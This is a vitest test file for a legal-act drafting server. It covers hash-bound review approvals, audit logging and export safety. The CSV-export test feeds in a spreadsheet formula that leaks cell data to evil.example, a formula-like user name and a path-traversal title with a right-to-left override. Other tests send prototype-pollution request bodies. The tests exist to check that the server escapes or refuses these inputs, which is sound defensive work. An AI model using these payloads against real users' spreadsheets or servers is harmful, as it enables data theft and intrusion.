import * as Y from 'yjs';
import { describe, expect, test } from 'vitest';
import { listAudit } from '../../server/audit/auditLog';
import { parseCsv } from '../helpers/csv';
import { cleanupAfterEach, serverForTest } from '../helpers/lifecycle';
import { connectClient } from '../helpers/lexicalClient';
import { $buildArticles, $textNodeWith, addMember, anchorOn } from '../helpers/reviewHelpers';
import { api, waitFor } from '../helpers/testServer';

/**
 * Issue 11, points 4, 5 (review part), 8 and 10: an approval is of the text the lawyer read, every review
 * and comment decision is in the audit log in the same transaction, the comments CSV cannot attack the
 * spreadsheet that opens it, and raw Yjs states (which keep deleted text) are only for those who may edit.
 */

const cleanup = cleanupAfterEach();

type Server = Awaited<ReturnType<typeof serverForTest>>['server'];

async function setup(title = 'ანტიკორუფციული რეგულაცია') {
  const { server } = await serverForTest(cleanup);
  const owner = server.workspace.ownerToken;
  const tokens = {
    owner,
    lawyer: await addMember(server, owner, 'ნინო იურისტი', 'reviewer'),
    drafter: await addMember(server, owner, 'გიორგი ბერიძე', 'drafter'),
    observer: await addMember(server, owner, 'მოქალაქე', 'observer'),
  };
  const idOf = async (token: string): Promise<string> => (await api(server, token, 'GET', '/api/me')).body.id;
  const ids = { owner: await idOf(tokens.owner), lawyer: await idOf(tokens.lawyer), drafter: await idOf(tokens.drafter) };
  const created = await api(server, owner, 'POST', '/api/documents', { title, language: 'ka' });
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  const docId: string = created.body.id;
  const alice = await connectClient(server.url, docId, owner);
  cleanup.push(() => alice.destroy());
  alice.edit(() =>
    $buildArticles([
      { heading: 'მიზანი', paragraphs: ['ეს რეგულაცია ადგენს წესებს.'] },
      { heading: 'საჩუქრები', paragraphs: ['საჩუქრის მიღება აკრძალულია.'] },
    ]),
  );
  const reviews = async (): Promise<any[]> => (await api(server, owner, 'GET', `/api/documents/${docId}/reviews`)).body.articles;
  // The template has two articles of its own: wait for Alice's, not for any two (her update may arrive later).
  await waitFor(async () => (await reviews()).map((a) => a.heading).join('|') === 'მიზანი|საჩუქრები', "Alice's two articles on the server");
  const decide = (token: string, articleKey: string, body: unknown) => api(server, token, 'PUT', `/api/documents/${docId}/reviews/${articleKey}`, body);
  return { server, tokens, ids, docId, alice, reviews, decide };
}

/** The audit entries of a document, oldest first. */
const auditOf = (server: Server, docId: string, action?: string) =>
  listAudit(server.workspace.db, { docId, limit: 1000 })
    .reverse()
    .filter((e) => action === undefined || e.action === action);

/** How many decisions the review history holds for a document. */
const historyRows = (server: Server, docId: string): number =>
  (server.workspace.db.prepare('SELECT COUNT(*) AS n FROM article_review_history WHERE doc_id = ?').get(docId) as { n: number }).n;

/** Appends words to the end of the paragraph that holds `needle`, as a drafter typing would. */
function appendTo(client: Awaited<ReturnType<typeof connectClient>>, needle: string, words: string): void {
  client.edit(() => {
    const { node } = $textNodeWith(needle);
    node.spliceText(node.getTextContentSize(), 0, words, false);
  });
}

describe('an approval is of the text the lawyer read', () => {
  test('every article carries the hash of its current text, which changes when its text does', async () => {
    const { alice, reviews } = await setup();
    const [first, second] = await reviews();
    expect(first.currentTextHash).toMatch(/^[A-Za-z0-9+/]{43}=$/);
    expect(second.currentTextHash).not.toBe(first.currentTextHash);
    appendTo(alice, 'საჩუქრის მიღება', ' გარდა სიმბოლურისა.');
    await waitFor(async () => (await reviews())[1].currentTextHash !== second.currentTextHash, 'the edit reaches the server');
    expect((await reviews())[0].currentTextHash).toBe(first.currentTextHash);
  });

  test('approving a text that has changed since it was read is 409 text_changed and stores nothing', async () => {
    const { server, tokens, docId, alice, reviews, decide } = await setup();
    const read = (await reviews())[1];
    appendTo(alice, 'საჩუქრის მიღება', ' გარდა სიმბოლურისა.');
    await waitFor(async () => (await reviews())[1].currentTextHash !== read.currentTextHash, 'the edit reaches the server');

    for (const status of ['approved', 'changes_requested']) {
      const stale = await decide(tokens.lawyer, read.articleKey, { status, textHash: read.currentTextHash });
      expect(stale.status, JSON.stringify(stale.body)).toBe(409);
      expect(stale.body.error.code).toBe('text_changed');
      expect(stale.body.error.message).toContain('მუხლი 2');
      expect(stale.body.error.message).toContain(read.currentTextHash);
    }
    expect((await reviews())[1]).toMatchObject({ status: 'not_reviewed', reviewer: null, at: null, textHash: null });
    expect(historyRows(server, docId)).toBe(0);
    expect(auditOf(server, docId, 'review.decided')).toEqual([]);

    // On the text as it is now, the approval goes through and stores that text's hash.
    const current = (await reviews())[1];
    const approved = await decide(tokens.lawyer, current.articleKey, { status: 'approved', textHash: current.currentTextHash });
    expect(approved.status, JSON.stringify(approved.body)).toBe(200);
    expect(approved.body).toMatchObject({ status: 'approved', textHash: current.currentTextHash, currentTextHash: current.currentTextHash });
  });

  test('a stale approval of an approved article leaves the earlier decision exactly as it was', async () => {
    const { server, tokens, docId, alice, reviews, decide } = await setup();
    const first = (await reviews())[0];
    expect((await decide(tokens.lawyer, first.articleKey, { status: 'approved', textHash: first.currentTextHash })).status).toBe(200);
    const before = (await reviews())[0];
    appendTo(alice, 'ადგენს წესებს', ' და პროცედურებს.');
    await waitFor(async () => (await reviews())[0].status === 'needs_rereview', 'the approval is outgrown');

    const again = await decide(tokens.lawyer, first.articleKey, { status: 'approved', textHash: first.currentTextHash, note: 'ისევ კარგია' });
    expect(again.status).toBe(409);
    const after = (await reviews())[0];
    expect(after).toMatchObject({ status: 'needs_rereview', at: before.at, textHash: first.currentTextHash, note: null });
    expect(historyRows(server, docId)).toBe(1);
    expect(auditOf(server, docId, 'review.decided')).toHaveLength(1);
  });

  test('an approval without a text hash, or with anything else in its place, is 400 and stores nothing', async () => {
    const { server, tokens, docId, reviews, decide } = await setup();
    const first = (await reviews())[0];
    const bodies: unknown[] = [
      { status: 'approved' },
      { status: 'approved', note: 'კარგია' },
      { status: 'approved', textHash: '' },
      { status: 'approved', textHash: 'x' },
      { status: 'approved', textHash: 'A'.repeat(44) },
      { status: 'approved', textHash: `${first.currentTextHash}\n` },
      { status: 'approved', textHash: 'A'.repeat(100_000) },
      { status: 'approved', textHash: 42 },
      { status: 'approved', textHash: null },
      { status: 'approved', textHash: [first.currentTextHash] },
      { status: 'approved', textHash: { toString: first.currentTextHash } },
      `{"status":"approved","__proto__":{"textHash":"${first.currentTextHash}"}}`,
      `{"status":"approved","constructor":{"prototype":{"textHash":"${first.currentTextHash}"}}}`,
    ];
    for (const body of bodies) {
      const refused = await decide(tokens.lawyer, first.articleKey, body);
      expect(refused.status, `${JSON.stringify(body).slice(0, 80)} → ${JSON.stringify(refused.body).slice(0, 200)}`).toBe(400);
      expect(refused.body.error.code).toBe('bad_request');
    }
    const missing = await decide(tokens.lawyer, first.articleKey, { status: 'approved' });
    expect(missing.body.error.message).toContain("'textHash'");
    expect(missing.body.error.message).toContain('currentTextHash');
    expect((await reviews())[0]).toMatchObject({ status: 'not_reviewed', reviewer: null });
    expect(historyRows(server, docId)).toBe(0);
    expect(auditOf(server, docId, 'review.decided')).toEqual([]);
    expect((await api(server, tokens.owner, 'GET', '/api/health')).status).toBe(200);

    // A request for changes may come without a hash: it stands until someone decides again.
    const changes = await decide(tokens.lawyer, first.articleKey, { status: 'changes_requested', note: 'დააზუსტეთ' });
    expect(changes.status, JSON.stringify(changes.body)).toBe(200);
    expect(changes.body).toMatchObject({ status: 'changes_requested', textHash: first.currentTextHash });
  });
});

describe('review and comment decisions in the audit log', () => {
  test('each decision, outcome and reopening is one entry by the member who made it, in an unbroken chain', async () => {
    const { server, tokens, ids, docId, alice, reviews, decide } = await setup();
    const [first, second] = await reviews();
    await decide(tokens.lawyer, first.articleKey, { status: 'approved', textHash: first.currentTextHash });
    await decide(tokens.lawyer, second.articleKey, { status: 'changes_requested', note: 'ზღვარი?', textHash: second.currentTextHash });
    const thread = await api(server, tokens.lawyer, 'POST', `/api/documents/${docId}/comments`, {
      anchor: anchorOn(alice.doc, 'საჩუქრის მიღება'),
      text: 'რა ითვლება საჩუქრად?',
    });
    expect(thread.status, JSON.stringify(thread.body)).toBe(201);
    const threadId: string = thread.body.id;
    const base = `/api/documents/${docId}/comments/${threadId}`;
    expect((await api(server, tokens.owner, 'POST', `${base}/resolve`, { outcome: 'rejected', reason: 'უკვე მოწესრიგებულია.' })).status).toBe(200);
    expect((await api(server, tokens.lawyer, 'POST', `${base}/reopen`, { reason: 'არ არის მოწესრიგებული.' })).status).toBe(200);
    expect((await api(server, tokens.drafter, 'POST', `${base}/resolve`, { outcome: 'accepted', reason: 'განმარტება დაემატა.' })).status).toBe(200);
    expect((await api(server, tokens.owner, 'POST', `${base}/reopen`, {})).status).toBe(200);

    const entries = auditOf(server, docId).filter((e) => e.action.startsWith('review.') || e.action.startsWith('comment.'));
    expect(entries.map((e) => [e.action, e.actor, e.docId, e.payload])).toEqual([
      ['review.decided', ids.lawyer, docId, { articleKey: first.articleKey, label: 'მუხლი 1', status: 'approved', textHash: first.currentTextHash, note: null }],
      ['review.decided', ids.lawyer, docId, { articleKey: second.articleKey, label: 'მუხლი 2', status: 'changes_requested', textHash: second.currentTextHash, note: 'ზღვარი?' }],
      ['comment.outcome', ids.owner, docId, { threadId, outcome: 'rejected', reason: 'უკვე მოწესრიგებულია.' }],
      ['comment.reopened', ids.lawyer, docId, { threadId, reason: 'არ არის მოწესრიგებული.' }],
      ['comment.outcome', ids.drafter, docId, { threadId, outcome: 'accepted', reason: 'განმარტება დაემატა.' }],
      ['comment.reopened', ids.owner, docId, { threadId, reason: null }],
    ]);
    for (const entry of entries) expect(Date.parse(entry.at)).toBeGreaterThan(Date.now() - 60_000);
    const verified = await api(server, tokens.owner, 'GET', '/api/audit/verify');
    expect(verified.body).toMatchObject({ ok: true });

    // Refused actions leave no entry.
    const count = auditOf(server, docId).length;
    expect((await api(server, tokens.owner, 'POST', `${base}/reopen`, {})).status).toBe(409);
    expect((await api(server, tokens.lawyer, 'POST', `${base}/resolve`, { outcome: 'accepted', reason: 'x' })).status).toBe(403);
    expect((await api(server, tokens.owner, 'POST', `${base}/resolve`, { outcome: 'maybe', reason: 'x' })).status).toBe(400);
    expect(auditOf(server, docId)).toHaveLength(count);
  });

  test('a decision whose audit entry cannot be written is not stored either', async () => {
    const { server, tokens, docId, alice, reviews, decide } = await setup();
    const first = (await reviews())[0];
    const thread = await api(server, tokens.lawyer, 'POST', `/api/documents/${docId}/comments`, {
      anchor: anchorOn(alice.doc, 'ადგენს წესებს'),
      text: 'რომელ წესებს?',
    });
    const base = `/api/documents/${docId}/comments/${thread.body.id}`;
    server.workspace.db.exec("CREATE TRIGGER audit_refused BEFORE INSERT ON audit_log BEGIN SELECT RAISE(ABORT, 'the audit log refuses entries in this test'); END;");
    try {
      expect((await decide(tokens.lawyer, first.articleKey, { status: 'approved', textHash: first.currentTextHash })).status).toBe(500);
      expect((await api(server, tokens.owner, 'POST', `${base}/resolve`, { outcome: 'accepted', reason: 'დაზუსტდა.' })).status).toBe(500);
      expect((await reviews())[0]).toMatchObject({ status: 'not_reviewed', reviewer: null });
      expect(historyRows(server, docId)).toBe(0);
      const stored = (await api(server, tokens.owner, 'GET', `/api/documents/${docId}/comments`)).body.threads[0];
      expect(stored).toMatchObject({ status: 'open', resolution: null });
    } finally {
      server.workspace.db.exec('DROP TRIGGER audit_refused');
    }
    expect((await api(server, tokens.owner, 'POST', `${base}/resolve`, { outcome: 'accepted', reason: 'დაზუსტდა.' })).status).toBe(200);
    expect((await api(server, tokens.owner, 'POST', `${base}/reopen`, {})).status).toBe(200);
    server.workspace.db.exec("CREATE TRIGGER audit_refused BEFORE INSERT ON audit_log BEGIN SELECT RAISE(ABORT, 'the audit log refuses entries in this test'); END;");
    try {
      // An outcome without its entry is not stored: the thread stays open, its history one resolution and one reopening.
      expect((await api(server, tokens.owner, 'POST', `${base}/resolve`, { outcome: 'rejected', reason: 'არა.' })).status).toBe(500);
      expect((await api(server, tokens.owner, 'GET', `/api/documents/${docId}/comments`)).body.threads[0].status).toBe('open');
    } finally {
      server.workspace.db.exec('DROP TRIGGER audit_refused');
    }
    const events = server.workspace.db.prepare('SELECT action FROM comment_thread_events WHERE thread_id = ? ORDER BY seq').all(thread.body.id);
    expect(events).toEqual([{ action: 'resolved' }, { action: 'reopened' }]);
  });
});

describe('exports that cannot attack their reader', () => {
  test('a comment, reason or name that a spreadsheet would run as a formula is exported as text behind a quote', async () => {
    const title = 'Act "x"; ../../etc/passwd\u202Efdp.exe ქართული';
    const { server, tokens, docId, alice } = await setup(title);
    const hostileName = await addMember(server, tokens.owner, '@SUM(1+1)*cmd', 'reviewer');
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")';
    const made = await api(server, hostileName, 'POST', `/api/documents/${docId}/comments`, { anchor: anchorOn(alice.doc, 'საჩუქრის მიღება'), text: formula });
    expect(made.status, JSON.stringify(made.body)).toBe(201);
    const resolved = await api(server, tokens.owner, 'POST', `/api/documents/${docId}/comments/${made.body.id}/resolve`, { outcome: 'rejected', reason: '+1 is not a reason' });
    expect(resolved.status).toBe(200);
    const second = await api(server, tokens.lawyer, 'POST', `/api/documents/${docId}/comments`, { anchor: anchorOn(alice.doc, 'ადგენს წესებს'), text: '-2+3' });
    expect(second.status).toBe(201);
    const reply = await api(server, tokens.lawyer, 'POST', `/api/documents/${docId}/comments`, { threadId: second.body.id, text: '=1+2' });
    expect(reply.status).toBe(201);

    const response = await fetch(`${server.url}/api/documents/${docId}/comments/export.csv`, { headers: { Authorization: `Bearer ${tokens.owner}` } });
    expect(response.status).toBe(200);
    const rows = parseCsv(new TextDecoder().decode(await response.arrayBuffer()).replace(/^\uFEFF/, ''));
    // Columns: №, article, quote, proposed text (suggestions only), comment, author, date, outcome, reason, replies.
    const byComment = (start: string) => rows.find((r) => r[4]?.includes(start))!;
    expect(byComment('HYPERLINK')[4]).toBe(`'${formula}`);
    expect(byComment('HYPERLINK')[5]).toBe("'@SUM(1+1)*cmd");
    expect(byComment('HYPERLINK')[8]).toBe("'+1 is not a reason");
    expect(byComment('-2+3')[4]).toBe("'-2+3");
    // The reply cell starts with the replier's name, so it is not a formula; the text inside it stays as written.
    expect(byComment('-2+3')[9]).toMatch(/^ნინო იურისტი \(.+\): =1\+2$/);
    for (const cell of rows.flat()) expect(cell, 'no cell may start a formula').not.toMatch(/^[=+\-@\t\r]/);

    // The download's file name is one safe header, whatever the act's title.
    const disposition = response.headers.get('content-disposition') ?? '';
    const parts = /^attachment; filename="([^"]*)"; filename\*=UTF-8''(\S+)$/.exec(disposition);
    expect(parts, disposition).not.toBeNull();
    for (const name of [parts![1]!, decodeURIComponent(parts![2]!)]) {
      expect(name).toMatch(/\.csv$/);
      expect(name).not.toMatch(/[/\\"\p{Cc}\p{Cf}]/u);
    }
    expect(parts![1]).not.toContain(';');
    expect(decodeURIComponent(parts![2]!)).toContain('ქართული');
  });
});

describe('raw Yjs states are for members who may edit', () => {
  test("observers and reviewers get 403 and no bytes for a version's state, and read its model instead", async () => {
    const { server, tokens, docId } = await setup();
    const saved = await api(server, tokens.owner, 'POST', `/api/documents/${docId}/versions`, { name: 'პირველი რედაქცია' });
    expect(saved.status).toBe(201);
    const path = `/api/documents/${docId}/versions/${saved.body.id}`;
    for (const role of ['observer', 'lawyer'] as const) {
      const refused = await fetch(`${server.url}${path}/state`, { headers: { Authorization: `Bearer ${tokens[role]}` } });
      expect(refused.status, role).toBe(403);
      expect(refused.headers.get('content-type'), role).toContain('application/json');
      const body = (await refused.json()) as { error: { code: string; message: string } };
      expect(body.error.code).toBe('forbidden');
      expect(body.error.message).toContain('editText');
      const model = await api(server, tokens[role], 'GET', `${path}/model`);
      expect(model.status, role).toBe(200);
      expect(JSON.stringify(model.body)).toContain('საჩუქრის მიღება აკრძალულია.');
    }
    for (const role of ['owner', 'drafter'] as const) {
      const allowed = await fetch(`${server.url}${path}/state`, { headers: { Authorization: `Bearer ${tokens[role]}` } });
      expect(allowed.status, role).toBe(200);
      expect(allowed.headers.get('content-type')).toBe('application/octet-stream');
      const doc = new Y.Doc();
      Y.applyUpdate(doc, new Uint8Array(await allowed.arrayBuffer()));
      expect(doc.share.size, role).toBeGreaterThan(0);
    }
  });
});
